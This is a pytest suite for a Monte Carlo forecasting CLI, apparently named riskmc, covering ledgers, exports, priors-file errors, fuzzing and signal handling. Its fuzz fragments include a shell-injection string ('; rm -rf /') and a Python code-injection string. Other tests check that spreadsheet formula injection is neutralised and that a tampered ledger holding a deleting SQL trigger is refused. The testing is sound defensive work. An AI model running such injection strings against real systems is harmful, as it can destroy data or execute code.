        r = as_plain_user("run", BASE, "--draws", 2000, "--seed", 9, "--out", run, "-q")
        assert r.returncode == 0, r.stderr
        assert not leftovers(copy), leftovers(copy)
        assert json.loads((run / "summary.json").read_text())["seed"] == 9
        assert as_plain_user("verify", run).returncode == 0
    finally:
        for p in copy.rglob("*"):
            if p.is_dir() and not p.is_symlink():
                p.chmod(0o755)


@pytest.mark.parametrize("what", ["file", "folder"])
def test_a_read_only_ledger_can_be_read_and_is_not_written(copy, what):
    led = copy / "led" / "ledger.sqlite"
    target = led if what == "file" else led.parent
    target.chmod(0o444 if what == "file" else 0o555)
    try:
        before = snapshot(copy / "led")
        r = as_plain_user("ledger", "record", copy / "runb", "--ledger", led)
        one_line(r.stderr, 6, r.returncode, rf"riskmc: error: {re.escape(str(led))}: the ledger('s folder)? is "
                                            r"read-only.*nothing was changed.*")
        r = as_plain_user("ledger", "resolve", "C2", "--outcome", "false", "--date", "2026-11-30", "--source", "s",
                          "--ledger", led)
        assert r.returncode == 6, r.stderr
        r = as_plain_user("ledger", "show", "--ledger", led)
        assert r.returncode == 0 and "C1" in r.stdout, r.stderr
        r = as_plain_user("ledger", "report", "--ledger", led, "--out", copy / "lr")
        assert r.returncode == 0, r.stderr
        assert snapshot(copy / "led") == before  # no -wal, no -shm, not a byte changed
    finally:
        led.parent.chmod(0o755)
        led.chmod(0o644)


def test_a_ledger_leaves_no_journal_beside_it(copy):
    led = copy / "led" / "ledger.sqlite"
    assert cli("ledger", "record", copy / "runb", "--ledger", led, "-q").exit_code == 0
    assert cli("ledger", "show", "--ledger", led).exit_code == 0
    assert sorted(p.name for p in led.parent.iterdir()) == ["ledger.sqlite"]


# ------------------------------------------------------------------ 7. formulas are never planted
def test_formulas_are_stored_as_text(copy):
    r = cli("export", copy / "grun", "--csv", "--xlsx", "--out", copy / "gexp", "-q")
    assert r.exit_code == 0, r.output
    claims = (copy / "gexp" / "claims.csv").read_text()
    assert "\"'=HYPERLINK(" in claims and ",=HYPERLINK" not in claims and ",\"=HYPERLINK" not in claims
    import zipfile
    with zipfile.ZipFile(copy / "gexp" / "run.xlsx") as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for n in sheets:
            assert "<f>" not in z.read(n).decode(), n  # no cell holds a formula
        # It is there, as text (an inline string: the workbook is written in constant memory).
        assert any("<t>=HYPERLINK(" in z.read(n).decode() for n in sheets)


# ------------------------------------------------------------------ 8. file:line on every priors error
def _extends(tmp_path, target: str) -> Path:
    p = tmp_path / "p.toml"
    p.write_text(f'extends = "{target}"\n')
    return p


EXTENDS = [
    ("cycle", lambda d: ((d / "a.toml").write_text('extends = "p.toml"\n'), "a.toml")[1],
     r"{p}:1: 'extends' makes a cycle: p\.toml -> a\.toml -> p\.toml \(remove one of the 'extends' lines\)"),
    ("self", lambda d: "p.toml", r"{p}:1: 'extends' makes a cycle: p\.toml -> p\.toml .*"),
    ("folder", lambda d: ((d / "dir.toml").mkdir(), "dir.toml")[1],
     r"{p}:1: 'extends' names dir\.toml: not a regular file, so not a priors file \(name a \.toml file\)"),
    ("empty", lambda d: "", r"{p}:1: 'extends' must name a priors file, got an empty name .*"),
    ("binary", lambda d: ((d / "b.toml").write_bytes(b"\x89PNG\x00\xff" * 50), "b.toml")[1],
     r"{p}:1: 'extends' names b\.toml: the file is not UTF-8 text \(save it as UTF-8\)"),
    ("utf-16", lambda d: ((d / "u.toml").write_bytes('title = "x"\n'.encode("utf-16")), "u.toml")[1],
     r"{p}:1: 'extends' names u\.toml: the file is not UTF-8 text \(save it as UTF-8\)"),
    ("fifo", lambda d: (os.mkfifo(d / "f.toml"), "f.toml")[1],
     r"{p}:1: 'extends' names f\.toml: not a regular file, so not a priors file \(name a \.toml file\)"),
    ("dev-zero", lambda d: "/dev/zero", r"{p}:1: 'extends' names /dev/zero: not a regular file, .*"),
    ("nested-value", lambda d: ((d / "n.toml").write_text('title = "n"\n\nx = ' + "[" * 3000 + "]" * 3000 + "\n"),
                                "n.toml")[1],
     r"{d}/n\.toml:3: malformed TOML: values nested too deeply .*"),
]


@pytest.mark.parametrize("case", EXTENDS, ids=[c[0] for c in EXTENDS])
@pytest.mark.parametrize("verb", ["check", "run"])
def test_extends_errors_name_the_file_and_line(tmp_path, case, verb):
    p = _extends(tmp_path, case[1](tmp_path))
    args = ["priors", "check", p] if verb == "check" else ["run", p, "--draws", 2000, "--out", tmp_path / "o"]
    r = cli(*args)
    pattern = case[2].replace("{p}", re.escape(str(p))).replace("{d}", re.escape(str(tmp_path)))
    one_line(r.stderr, 3, r.exit_code, "riskmc: error: " + pattern)
    assert not (tmp_path / "o").exists()


# ------------------------------------------------------------------ 9. random cases (make fuzz)
hypothesis = pytest.importorskip("hypothesis")
from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

EXAMPLES = 400 if FUZZ else 25
FRAGMENTS = ["nvidia_share[2030]", "aws_revenue[2026]", "custom_share_2030", "<", ">=", "==", "0.5", "-1e308",
             "1e999", "and", "or", "not", "(", ")", "[", "]", ":", "rises", "falls", "nvidia_share[2025:2030]",
             "\x00", "ü", "'", '"', "$", "%", "; rm -rf /", "__import__('os')", " "]


@settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=40))
def test_any_event_text_is_answered_or_refused_in_one_line(ws, parts):
    text = " ".join(parts)
    r = cli("ask", ws / "run", text, "--json")
    assert r.exit_code in (0, 2), (text, r.output)
    if r.exit_code == 0:
        json.loads(r.stdout)
    else:
        one_line(r.stderr, 2, r.exit_code)


@settings(max_examples=EXAMPLES // 5, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.sampled_from(["summary.json", "manifest.json", "draws.parquet"]), st.integers(0, 10 ** 9),
       st.binary(min_size=1, max_size=8))
def test_any_damage_to_a_run_folder_is_caught(ws, tmp_path_factory, name, where, junk):
    folder = tmp_path_factory.mktemp("damaged") / "run"
    shutil.copytree(ws / "run", folder)
    raw = bytearray((folder / name).read_bytes())
    i = where % len(raw)
    raw[i:i + len(junk)] = junk
    old = (folder / name).read_bytes()
    if bytes(raw) == old:
        return
    (folder / name).write_bytes(bytes(raw))
    harmless = False
    if name == "manifest.json":  # its "about" and version may change without changing what it lists
        try:
            new = json.loads(bytes(raw))
            harmless = {k: new.get(k) for k in ("files", "kind")} == {k: json.loads(old)[k] for k in ("files", "kind")}
        except (ValueError, AttributeError):
            pass
    for args in (["verify", folder], ["ask", folder, EVENT], ["export", folder, "--csv", "--out", folder.parent / "x"]):
        r = cli(*args)
        # verify checks every byte; ask and export the bytes of what they read (and the
        # listing): a changed entry of report.html is not theirs to catch.
        if r.exit_code == 0 and (harmless or (name == "manifest.json" and args[0] != "verify")):
            continue
        one_line(r.stderr, 4, r.exit_code)
    shutil.rmtree(folder.parent / "x", ignore_errors=True)
    assert stat.S_ISDIR(folder.stat().st_mode)


# ------------------------------------------------------------------ 10. an independent sweep's findings
LONG = "x" * 300


@pytest.mark.parametrize("case", [
    ("run", lambda w: ["run", w / "priors" / "base.toml", "--draws", 2000, "--out", w / LONG], 4),
    ("ask", lambda w: ["ask", w / "run", EVENT, "--out", w / LONG], 4),
    ("export", lambda w: ["export", w / "run", "--csv", "--out", w / LONG], 4),
    ("compare", lambda w: ["compare", w / "run", w / "runb", "--out", w / LONG], 4),
    ("depfile", lambda w: ["run", w / "priors" / "base.toml", "--draws", 2000, "--out", w / "n",
                           "--depfile", w / LONG], 4),
    ("ledger-record", lambda w: ["ledger", "record", w / "run", "--ledger", w / LONG], 6),
    ("ledger-show", lambda w: ["ledger", "show", "--ledger", w / LONG], 6),
], ids=lambda c: c[0])
def test_names_the_system_refuses(copy, case):
    before = snapshot(copy)
    r = cli(*case[1](copy))
    one_line(r.stderr, case[2], r.exit_code, r"riskmc: error: .*(File name too long|name too long).*")
    assert snapshot(copy) == before


@pytest.mark.parametrize("key", ["extends", "model"])
def test_a_priors_path_the_system_refuses_names_its_line(tmp_path, key):
    p = tmp_path / "p.toml"
    p.write_text(f'{key} = "{LONG}.{"toml" if key == "extends" else "py"}"\n')
    r = cli("priors", "check", p)
    one_line(r.stderr, 3, r.exit_code, rf"riskmc: error: {re.escape(str(p))}:1: '{key}' names a path the system "
                                       r"refuses: File name too long .*")


def test_a_depfile_naming_the_output_folder(copy):
    before = snapshot(copy)
    for dep in ("new", "new/sub/x.mk"):
        r = cli("run", copy / "priors" / "base.toml", "--draws", 2000, "--out", copy / "new", "--depfile", copy / dep)
        one_line(r.stderr, 2, r.exit_code, r"riskmc: error: --depfile \S+ names the output folder .*")
    assert snapshot(copy) == before and not leftovers(copy)


def test_a_compiled_model_spinning_in_its_loop_stops_on_sigterm(tmp_path):
    """numba code never returns to Python, so Python's own handler never runs: the signal
    reaches riskmc through the wakeup pipe its listener reads."""
    (tmp_path / "spin.py").write_text(textwrap.dedent('''
        import os
        import riskmc
        def spin(base, rate, years, out):
            i = 0
            while i >= 0:
                out[0, 0] = base + i
                i = (i + 1) % 1000
        MODEL = riskmc.Model("spin", inputs=[riskmc.Input("base"), riskmc.Input("rate")],
                             outputs=[riskmc.Output("y", headline=True)], years=range(2025, 2027), compiled=spin)
    '''))
    (tmp_path / "spin.toml").write_text('model = "spin.py"\n' + "".join(
        f'[priors.{n}]\ndescription = "d"\nunit = "x"\nsource = "a"\nrange = [1, 2]\n' for n in ("base", "rate")))
    p = subprocess.Popen([sys.executable, "-m", "riskmc", "run", str(tmp_path / "spin.toml"), "--draws", "2000",
                          "--out", str(tmp_path / "o"), "-q"], cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                         text=True)
    try:
        deadline = time.monotonic() + 180
        # Busy once it runs on a CPU for a while after compiling: the kernel's own count of
        # its CPU time passes what importing and compiling take.
        while True:
            assert p.poll() is None, p.communicate()
            assert time.monotonic() < deadline, "the model never started"
            fields = Path(f"/proc/{p.pid}/stat").read_text().rsplit(")", 1)[1].split()
            if _handlers_in(p.pid) and int(fields[11]) / os.sysconf("SC_CLK_TCK") > 15:
                break
            time.sleep(0.2)
        p.send_signal(signal.SIGTERM)
        _, err = p.communicate(timeout=30)
    finally:
        p.kill()
    one_line(err, 143, p.returncode, r"riskmc: terminated \(SIGTERM\): nothing was written.*")
    assert not leftovers(tmp_path)


MEAN = '''
import os
import sys
import signal
import numpy as np
import riskmc
MODE = os.environ.get("RISKMC_TEST_MODE", "")
if MODE == "close":
    sys.stdout.close()
    sys.stderr.close()
if MODE == "chdir":
    os.chdir("/")
if MODE == "ignore":
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    signal.signal(signal.SIGINT, signal.SIG_IGN)


def f(x, years):
    if MODE == "nan":
        return {"y": x["a"] * np.nan}
    if MODE == "ignore":
        open(os.environ["RISKMC_TEST_BUSY"], "w").close()
        import time
        time.sleep(1000)
    return {"y": x["a"]}


MODEL = riskmc.Model("mean", inputs=[riskmc.Input("a")], outputs=[riskmc.Output("y", headline=True)], vectorised=f)
'''


@pytest.fixture
def mean_model(tmp_path):
    (tmp_path / "mean.py").write_text(MEAN)
    p = tmp_path / "mean.toml"
    p.write_text('model = "mean.py"\n[priors.a]\ndescription = "d"\nunit = "x"\nsource = "a"\nrange = [1, 2]\n')
    return p


def test_a_model_that_closes_riskmcs_streams(mean_model, tmp_path):
    r = proc("run", mean_model, "--draws", 2000, "--out", tmp_path / "o", "--json", env={"RISKMC_TEST_MODE": "close"})
    assert r.returncode == 0, r.stderr
    assert json.loads(r.stdout)["draws"] == 2000


def test_a_model_that_moves_the_working_folder(mean_model, tmp_path):
    r = proc("run", mean_model, "--draws", 2000, "--out", "rel-out", "-q", env={"RISKMC_TEST_MODE": "chdir"},
             cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    assert (tmp_path / "rel-out" / "summary.json").exists() and not Path("/rel-out").exists()


def test_a_model_that_ignores_signals_is_stopped_anyway(mean_model, tmp_path):
    busy = tmp_path / "busy"
    env = dict(os.environ, RISKMC_TEST_MODE="ignore", RISKMC_TEST_BUSY=str(busy))
    p = subprocess.Popen([sys.executable, "-m", "riskmc", "run", str(mean_model), "--draws", "2000", "--out",
                          str(tmp_path / "o"), "-q"], cwd=ROOT, env=env, stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 120
        while not busy.exists():
            assert p.poll() is None, p.communicate()
            assert time.monotonic() < deadline
            time.sleep(0.01)
        p.send_signal(signal.SIGTERM)
        _, err = p.communicate(timeout=30)
    finally:
        p.kill()
    one_line(err, 143, p.returncode)


def test_ask_and_seek_refuse_a_model_that_gives_nan(mean_model, tmp_path):
    assert cli("run", mean_model, "--draws", 2000, "--no-save-draws", "--out", tmp_path / "o", "-q").exit_code == 0
    for args in (["ask", tmp_path / "o", "y > 1.5"],
                 ["seek", mean_model, "--vary", "a", "--target", "P(y > 1.5) = 0.3", "--draws", 2000]):
        r = proc(*args, env={"RISKMC_TEST_MODE": "nan"})
        one_line(r.stderr, 3, r.returncode, rf"riskmc: error: {re.escape(str(tmp_path / 'mean.py'))}: the model "
                                            r"gave nan for y at draw 0 .*")


def test_all_scenarios_json_is_one_document_and_a_closed_pipe_is_quiet(tmp_path):
    p = tmp_path / "base.toml"
    shutil.copy(BASE, p)
    r = proc("run", p, "--all-scenarios", "--draws", 2000, "--json", cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    doc = json.loads(r.stdout)
    assert [d["scenario"] for d in doc] == [None, "nvidia-price-war", "trainium-slip"]
    for args in (["priors", "show", p], ["priors", "check", p], ["run", p, "--draws", 2000, "--out", tmp_path / "q"],
                 ["ask", tmp_path / "reports" / "base", EVENT], ["run", p, "--all-scenarios", "--draws", 2000,
                                                                 "--json"]):
        e = dict(os.environ, PYTHONUNBUFFERED="1")
        q = subprocess.Popen([sys.executable, "-m", "riskmc", *map(str, args)], cwd=tmp_path, env=e,
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        q.stdout.read(1)
        q.stdout.close()
        err = q.stderr.read().decode()
        assert q.wait(timeout=120) in (0, 141) and err == "", (args, err)


@pytest.mark.parametrize("folder", ["priors", "models"])
def test_an_out_holding_the_runs_priors_or_model_is_refused_as_usage(ws, folder):
    before = snapshot(ws)
    args = ({"priors": ["ask", ws / "grun", "revenue[2028] > 150", "--out", ws / "priors"],
             "models": ["sensitivity", ws / "priors" / "grow.toml", "--draws", 64, "--out", ws / "models"]}
            [folder])
    r = cli(*args)
    one_line(r.stderr, 2, r.exit_code, IS_INPUT)
    assert snapshot(ws) == before


def test_draws_holding_nan_are_refused_even_with_a_matching_manifest(copy):
    import hashlib

    import polars as pl
    f = copy / "run"
    d = pl.read_parquet(f / "draws.parquet")
    d.with_columns(pl.lit(float("nan")).alias("nvidia_share_y2030")).write_parquet(f / "draws.parquet")
    m = json.loads((f / "manifest.json").read_text())
    raw = (f / "draws.parquet").read_bytes()
    m["files"]["draws.parquet"] = {"sha256": hashlib.sha256(raw).hexdigest(), "bytes": len(raw)}
    (f / "manifest.json").write_text(json.dumps(m))
    for args in (["export", f, "--xlsx", "--out", copy / "x"], ["ask", f, EVENT], ["compare", f, f, "--out", copy / "c"]):
        r = cli(*args)
        one_line(r.stderr, 4, r.exit_code, rf"riskmc: error: {re.escape(str(f))}: draws\.parquet holds values riskmc "
                                           r"never writes \(NaN or infinite\) .*")


def test_compare_runs_of_different_models(ws, tmp_path):
    r = cli("compare", ws / "run", ws / "grun", "--out", tmp_path / "c", "-q")
    assert r.exit_code == 0, r.output
    assert json.loads((tmp_path / "c" / "compare.json").read_text())["priors_diff"][1]


def test_recording_several_runs_is_all_or_nothing(copy, tmp_path):
    led = copy / "led" / "ledger.sqlite"
    other = tmp_path / "other.toml"
    text = BASE.read_text()
    c2 = text.index("[claims.C2]")
    other.write_text(text[:c2] + text[c2:].replace("above = 154", "above = 999", 1))
    assert cli("run", other, "--draws", 2000, "--out", tmp_path / "o", "-q").exit_code == 0
    before = snapshot(copy / "led")
    r = cli("ledger", "record", copy / "runb", tmp_path / "o", "--ledger", led, "--as-forecast")
    one_line(r.stderr, 2, r.exit_code, r"riskmc: error: .*claim 'C2' is recorded as .*nothing was recorded.*")
    assert snapshot(copy / "led") == before


@pytest.mark.parametrize("sql", ["PRAGMA user_version = -1",
                                 "CREATE TRIGGER t AFTER INSERT ON runs BEGIN DELETE FROM forecasts; END",
                                 "CREATE VIEW v AS SELECT * FROM runs"])
def test_a_ledger_riskmc_never_made(copy, sql):
    led = copy / "led" / "ledger.sqlite"
    db = sqlite3.connect(led)
    db.execute(sql)
    db.commit()
    db.close()
    before = snapshot(copy / "led")
    for args in (["ledger", "record", copy / "runb", "--ledger", led], ["ledger", "show", "--ledger", led]):
        r = cli(*args)
        one_line(r.stderr, 6, r.exit_code, r"riskmc: error: .*not a riskmc ledger .*nothing was changed.*")
    assert snapshot(copy / "led") == before


@pytest.mark.parametrize("case", [
    ("ledger-in-a-run", lambda w: ["ledger", "record", w / "run", "--ledger", w / "run" / "l.sqlite"]),
    ("ledger-in-an-ask", lambda w: ["ledger", "record", w / "run", "--ledger", w / "askd" / "l.sqlite"]),
    ("out-inside-a-run", lambda w: ["run", w / "priors" / "base.toml", "--draws", 2000, "--out", w / "runb" / "sub"]),
    ("out-inside-an-ask", lambda w: ["compare", w / "run", w / "runb", "--out", w / "askd" / "sub"]),
], ids=lambda c: c[0])
def test_nothing_is_written_inside_a_committed_folder(copy, case):
    before = snapshot(copy)
    r = cli(*case[1](copy))
    one_line(r.stderr, 2, r.exit_code, r"riskmc: error: --(ledger|out) \S+ (lies in a folder that holds|lies inside) .*")
    assert snapshot(copy) == before


@pytest.mark.parametrize("args", [["--p05", "1e-320", "--p95", "2e-320"], ["--p05", "0.6", "--p95", "0.4"]])
def test_priors_fit_refuses_its_arguments_as_usage(args):
    r = cli("priors", "fit", *args)
    one_line(r.stderr, 2, r.exit_code)


def test_priors_errors_always_name_a_line(tmp_path):
    text = BASE.read_text()
    for name, content, line in [
        ("claim-name", text.replace("[claims.C2]", '[claims."=cmd"]').encode(),
         text[:text.index("[claims.C2]")].count("\n") + 1),
        ("binary", b'title = "x"\n\n\x89PNG\x00\xff', 3),
        ("beta-absurd", text.replace('range = [0.40, 0.60]', 'family = "beta"\na = 1e308\nb = 1e308', 1).encode(),
         None),
    ]:
        p = tmp_path / f"{name}.toml"
        p.write_bytes(content)
        r = cli("priors", "check", p)
        said = one_line(r.stderr, 3, r.exit_code, rf"riskmc: error: {re.escape(str(p))}:\d+: .*")
        if line is not None:
            assert said.startswith(f"riskmc: error: {p}:{line}: "), (name, said)
